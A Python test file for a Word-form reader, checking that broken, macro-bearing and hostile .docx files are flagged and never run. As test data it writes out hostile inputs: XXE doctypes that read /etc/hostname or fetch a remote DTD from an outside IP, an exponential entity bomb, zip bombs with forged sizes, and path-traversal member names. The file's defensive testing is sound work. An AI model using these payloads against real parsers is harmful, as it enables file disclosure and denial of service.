"""Word files that are broken, locked, or meant to harm: named, never run, never a crash.

Source: D0 三(一)3.
"""

import io
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from linli.core.documents.form_file import read_form_file
from linli.core.documents.form_reading import ReadForm
from linli.core.documents.problems import ProblemCode
from tests.core.intake import made_form as made

GOOD = made.form()
MAIN = "word/document.xml"
UNREADABLE = ProblemCode.ATTACHMENT_UNREADABLE
SUSPICIOUS = ProblemCode.ATTACHMENT_SUSPICIOUS
UNSUPPORTED = ProblemCode.UNSUPPORTED_CARRIER


def read(content: bytes) -> ReadForm:
    return read_form_file(content, gazetteer=made.gazetteer(), title=made.TITLE)


def codes(content: bytes) -> list[ProblemCode]:
    return [problem.code for problem in read(content).problems]


def with_main(change: tuple[bytes, bytes]) -> bytes:
    return made.with_part(GOOD, MAIN, made.part_of(GOOD).replace(*change, 1))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", UNREADABLE),
        (b"hello", UNREADABLE),
        (GOOD[: len(GOOD) // 2], UNREADABLE),
        (b"PK\x03\x04" + bytes(200), UNREADABLE),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), UNREADABLE),
        (b"%PDF-1.7 made up", UNSUPPORTED),
        (b"\xff\xd8\xff\xe0 made up", UNSUPPORTED),
        (b"Rar!\x1a\x07\x00", UNSUPPORTED),
    ],
    ids=[
        "empty",
        "text",
        "cut off",
        "no archive",
        "old Word",
        "pdf",
        "photo",
        "rar",
    ],
)
def test_file_that_is_no_word_document_says_what_it_is(content: bytes, code: ProblemCode) -> None:
    found = read(content)

    assert (found.form, [problem.code for problem in found.problems]) == (None, [code])


def test_archive_without_a_document_is_left_to_a_person() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("readme.txt", "样本")

    assert codes(stream.getvalue()) == [UNSUPPORTED]


def test_macros_are_flagged_and_the_form_is_read_without_them() -> None:
    found = read(made.with_part(GOOD, "word/vbaProject.bin", b"made up"))

    assert (found.form, [p.code for p in found.problems]) == (read(GOOD).form, [SUSPICIOUS])


@pytest.mark.parametrize("name", ["../../x/run.txt", "..\\x.txt", "/etc/x", "C:/x.txt"])
def test_member_that_leads_out_of_the_package_is_flagged(name: str) -> None:
    found = read(made.with_part(GOOD, name, b"made up"))

    assert (found.form, [p.code for p in found.problems]) == (read(GOOD).form, [SUSPICIOUS])


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE w:document [<!ENTITY ext SYSTEM "file:///etc/hostname">]>',
        b'<!DOCTYPE w:document SYSTEM "http://198.51.100.1/x.dtd">',
        b'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "http://198.51.100.1/p"> %p;]>',
    ],
)
def test_external_entity_is_flagged_and_never_resolved(doctype: bytes) -> None:
    main = made.part_of(GOOD)
    end = main.index(b"?>") + 2
    body = main[end:].replace(
        "样本大学".encode(), b"&ext;" if b"ENTITY ext" in doctype else "样本大学".encode(), 1
    )

    found = read(made.with_part(GOOD, MAIN, main[:end] + doctype + body))

    assert [p.code for p in found.problems] == [SUSPICIOUS]
    assert found.form is not None
    assert found.form.school in {None, "样本大学"}


def test_exponential_entities_end_at_once() -> None:
    levels = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    main = made.part_of(GOOD)
    end = main.index(b"?>") + 2
    hostile = (
        main[:end]
        + b'<!DOCTYPE x [<!ENTITY a0 "lol">'
        + levels
        + b"]>"
        + main[end:].replace("样本大学".encode(), b"&a11;", 1)
    )
    start = time.process_time()

    found = codes(made.with_part(GOOD, MAIN, hostile))

    assert found == [SUSPICIOUS]
    assert time.process_time() - start < 5


def test_inflated_document_stops_at_the_limit() -> None:
    padding = b"<!--" + b" " * (40 * 1024 * 1024) + b"-->"
    start = time.process_time()

    found = read(made.with_part(GOOD, MAIN, made.part_of(GOOD) + padding))

    assert (found.form, {p.code for p in found.problems}) == (None, {SUSPICIOUS})
    assert time.process_time() - start < 5


def test_size_that_is_declared_too_small_helps_no_bomb() -> None:
    bomb = made.with_part(GOOD, MAIN, made.part_of(GOOD) + b" " * (40 * 1024 * 1024))
    at = bomb.rindex(MAIN.encode()) - 22
    forged = bomb[:at] + (1000).to_bytes(4, "little") + bomb[at + 4 :]

    assert read(forged).form is None


def test_too_many_members_are_not_looked_through() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(2_001):
            archive.writestr(f"word/{number}.xml", b"")

    assert codes(stream.getvalue()) == [SUSPICIOUS]


def test_spans_of_a_million_columns_take_no_memory() -> None:
    hostile = with_main((b'<w:gridSpan w:val="6"/>', b'<w:gridSpan w:val="999999999"/>'))
    start = time.process_time()

    assert read(hostile).form is not None
    assert time.process_time() - start < 5


def wrapped(wrapper: bytes, inner: bytes, *, count: int = 60_000) -> bytes:
    """Very many elements inside two hundred wrappers."""
    return b"<w:%b>" % wrapper * 200 + inner * count + b"</w:%b>" % wrapper * 200


@pytest.mark.parametrize(
    "body",
    [
        wrapped(b"sdt", b"<w:p/>"),
        b"<w:p>" + wrapped(b"ins", b"<w:r/>") + b"</w:p>",
        wrapped(b"tbl", b"<w:tbl/>"),
        b"<w:tbl/>" * 150_000,
        b"<w:p><w:AlternateContent>"
        + b"<w:Fallback><w:txbxContent/></w:Fallback>" * 60_000
        + b"</w:AlternateContent></w:p>",
    ],
    ids=["controls", "insertions", "tables in tables", "tables without cells", "boxes"],
)
def test_elements_in_wrappers_cost_no_more_than_elements(body: bytes) -> None:
    hostile = with_main((b"</w:body>", body + b"</w:body>"))
    start = time.process_time()

    assert read(hostile).form is not None
    assert time.process_time() - start < 5


@pytest.mark.parametrize(("marks", "is_read"), [(399_999, True), (400_000, True), (400_001, False)])
def test_marks_of_one_document_have_a_limit(marks: int, is_read: bool) -> None:
    known = made.part_of(GOOD).count(b"<")
    hostile = with_main((b"</w:body>", b"<w:a/>" * (marks - known) + b"</w:body>"))

    assert (read(hostile).form is not None) is is_read


@pytest.mark.parametrize(("entries", "code"), [(20_000, SUSPICIOUS), (20_001, UNREADABLE)])
def test_directory_that_takes_long_to_read_is_not_read(entries: int, code: ProblemCode) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(entries):
            archive.writestr(zipfile.ZipInfo(f"word/{number}"), b"")

    assert codes(stream.getvalue()) == [code]


def test_table_of_a_hundred_thousand_cells_is_cut_and_flagged() -> None:
    many = made.table([made.cell("<w:p/>") * 50] * 2_000)
    start = time.process_time()

    found = read(made.document(made.table(made.form_rows(made.PERSON)), many))

    assert {p.code for p in found.problems} == {SUSPICIOUS}
    assert time.process_time() - start < 10


def test_label_above_thousands_of_blank_rows_takes_no_long_time() -> None:
    label, blank = made.cell(made.paragraphs("姓名")), made.cell("<w:p/>")
    wide = made.cell("<w:p/>", span=62)
    hostile = made.document(made.table([label + wide, *[blank + wide] * 2_400]))
    start = time.process_time()

    read(hostile)

    assert time.process_time() - start < 4


def test_thousands_of_labels_that_share_one_value_take_no_long_time() -> None:
    label = made.cell(made.paragraphs("姓名"))
    value = made.paragraphs("\n".join(["x" * 4_000_000] * 2))
    rows = [label + made.cell(value, merge="restart")]
    rows += [label + made.cell("<w:p/>", merge="continue")] * 2_400
    start = time.process_time()

    read(made.document(made.table(rows)))

    assert time.process_time() - start < 4


def test_merged_cells_without_end_are_cut_and_flagged() -> None:
    first = made.cell("<w:p/>", span=63, merge="restart")
    below = made.cell("<w:p/>", span=63, merge="continue")
    endless = made.table([first, *[below] * 20_000])

    found = read(made.document(made.table(made.form_rows(made.PERSON)), endless))

    assert (found.form, [p.code for p in found.problems]) == (read(GOOD).form, [SUSPICIOUS])


@pytest.mark.parametrize(
    "filler", [" ", "姓 ", "姓名", "签 名", "一", "(", "□", "不接受", "1.", "["]
)
def test_field_of_a_million_characters_takes_no_long_time(filler: str) -> None:
    long = filler * (1_000_000 // len(filler))
    hostile = made.form(
        {"个人简历": long, made.TRANSFER: long, "本人承诺": "签名：" + long, "学历": long}
    )
    start = time.process_time()

    read(hostile)

    assert time.process_time() - start < 8


def test_deeply_nested_elements_are_refused() -> None:
    deep = made.part_of(GOOD).replace(
        b"<w:body>", b"<w:body>" + b"<w:sdt><w:sdtContent>" * 5_000, 1
    )

    assert codes(made.with_part(GOOD, MAIN, deep)) == [UNREADABLE]


def test_template_from_elsewhere_is_flagged() -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{kind}" Target="http://198.51.100.1/x.dotm" TargetMode="External"/></Relationships>'
    )

    found = read(made.with_part(GOOD, "word/_rels/settings.xml.rels", relations.encode()))

    assert (found.form, [p.code for p in found.problems]) == (read(GOOD).form, [SUSPICIOUS])


def test_main_part_under_another_name_is_found_by_its_relation() -> None:
    main, relations = made.part_of(GOOD), made.part_of(GOOD, "_rels/.rels")
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(
            "_rels/.rels", relations.replace(b"word/document.xml", b"word/document2.xml")
        )
        archive.writestr("word/document2.xml", main)

    assert read(stream.getvalue()).form == read(GOOD).form


@settings(max_examples=120, deadline=None)
@given(
    cut=st.integers(0, len(GOOD)),
    changes=st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), max_size=12),
)
def test_no_damage_to_a_good_file_is_ever_raised(cut: int, changes: list[tuple[int, int]]) -> None:
    damaged = bytearray(GOOD)
    for position, value in changes:
        damaged[position] = value

    for content in (bytes(damaged), bytes(damaged[:cut])):
        found = read(content)
        assert found.form is not None or found.problems


@settings(max_examples=120, deadline=None)
@given(
    start=st.integers(0, 8_000),
    length=st.integers(0, 400),
    put=st.sampled_from(
        [b"", b"<w:tbl>", b"</w:tc>", b"&x;", b'w:val="-1"', b"<w:tr/>", b"\x00", "签名".encode()]
    ),
)
def test_no_damage_to_the_xml_inside_is_ever_raised(start: int, length: int, put: bytes) -> None:
    main = made.part_of(GOOD)

    found = read(made.with_part(GOOD, MAIN, main[:start] + put + main[start + length :]))

    assert found.form is not None or found.problems
